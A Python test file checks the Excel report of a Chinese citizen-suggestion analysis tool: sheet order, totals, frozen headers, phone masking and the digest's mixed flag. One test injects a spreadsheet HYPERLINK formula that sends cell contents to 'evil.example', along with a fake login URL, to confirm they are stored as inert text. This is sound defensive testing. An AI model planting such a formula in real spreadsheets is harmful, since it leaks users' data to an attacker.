"""report.xlsx read back with openpyxl: sheets, totals, types, frozen headers."""

from __future__ import annotations

import json

import openpyxl

from minsheng.reports.xlsx import REGION_SHEET, SHEETS

from .analysis_fixture import UNMASKED_PHONE


def _table(ws, header_row: int = 3) -> list[dict]:
    rows = list(ws.iter_rows(min_row=header_row, values_only=True))
    header = rows[0]
    out = []
    for row in rows[1:]:
        if all(v is None for v in row):
            break
        out.append(dict(zip(header, row, strict=False)))
    return out


def test_it_has_one_sheet_per_section(reported_dir):
    book = openpyxl.load_workbook(reported_dir / "report.xlsx")
    at = SHEETS.index("建议摘编") + 1  # the suggestions come from regions: their sheet follows the digest
    assert book.sheetnames == [*SHEETS[:at], REGION_SHEET, *SHEETS[at:]]
    for name in book.sheetnames:
        assert book[name]["A1"].value, f"sheet {name} has no title"


def test_totals_agree_with_the_summary(reported_dir):
    summary = json.loads((reported_dir / "summary.json").read_text(encoding="utf-8"))
    book = openpyxl.load_workbook(reported_dir / "report.xlsx")
    overview = {r["指标"]: r["数值"] for r in _table(book["概览"])}
    assert overview["收到建议"] == summary["rows_in"]
    assert overview["有效建议"] == summary["accepted"]
    assert overview["无效记录"] == summary["rejected"]
    departments = _table(book["部门分派"])
    assert sum(r["建议数"] for r in departments) == summary["accepted"]
    volume = _table(book["时间分布"])
    assert sum(r["合计"] for r in volume) == summary["accepted"]
    rejects = _table(book["数据质量"])
    assert sum(r["行数"] for r in rejects) == summary["rejected"]


def test_numbers_are_numbers_and_headers_frozen(reported_dir):
    book = openpyxl.load_workbook(reported_dir / "report.xlsx")
    for name in ("概览", "部门分派", "时间分布", "主题", "热点问题"):
        assert book[name].freeze_panes == "A4", name
    departments = _table(book["部门分派"])
    assert all(isinstance(r["建议数"], int) and isinstance(r["占比"], float) for r in departments)
    assert book["部门分派"].column_dimensions["A"].width >= 8
    assert len(book["时间分布"]._charts) == 1 and len(book["部门分派"]._charts) == 1


def test_no_cell_holds_unmasked_personal_data(reported_dir):
    book = openpyxl.load_workbook(reported_dir / "report.xlsx")
    cells = " ".join(str(v) for ws in book for row in ws.iter_rows(values_only=True) for v in row if v)
    assert UNMASKED_PHONE not in cells
    assert UNMASKED_PHONE[:3] + "****" + UNMASKED_PHONE[-4:] in cells


def test_citizens_text_is_never_a_formula_or_a_link(analysis_dir, tmp_path):
    import shutil

    import pandas as pd

    from minsheng.reports._data import load_report_data
    from minsheng.reports.xlsx import write_xlsx

    shutil.copytree(analysis_dir, tmp_path / "a")
    leak = '=HYPERLINK("http://evil.example/?leak="&A1,"查看原文")'
    themes = pd.read_csv(tmp_path / "a" / "themes.csv", dtype=str, keep_default_na=False)
    themes.loc[0, "label"], themes.loc[1, "label"] = leak, "http://evil.example/login"
    themes.to_csv(tmp_path / "a" / "themes.csv", index=False)
    path = write_xlsx(load_report_data(tmp_path / "a"), tmp_path / "report.xlsx")
    book = openpyxl.load_workbook(path)
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.coordinate for c in cells if c.hyperlink is not None]
    assert any(c.value == leak for c in cells)


def test_the_digest_says_which_suggestions_may_be_mixed_in_words(reported_dir):
    """The engine's ``mixed`` flag is a column an officer filters on: 是/否 as the HTML and PDF say it, not
    Excel's TRUE/FALSE, beside the ask spread it comes from."""
    from minsheng.engine.result import read_result

    expected = read_result(reported_dir, tables=["suggestions"]).suggestions.set_index("suggestion_id")
    rows = _table(openpyxl.load_workbook(reported_dir / "report.xlsx")["建议摘编"])
    assert rows and {r["内容可能混杂"] for r in rows} == {"是", "否"}
    for r in rows:
        truth = expected.loc[r["建议编号"]]
        assert r["内容可能混杂"] == ("是" if truth["mixed"] else "否") and r["诉求分散度"] == truth["ask_spread"]
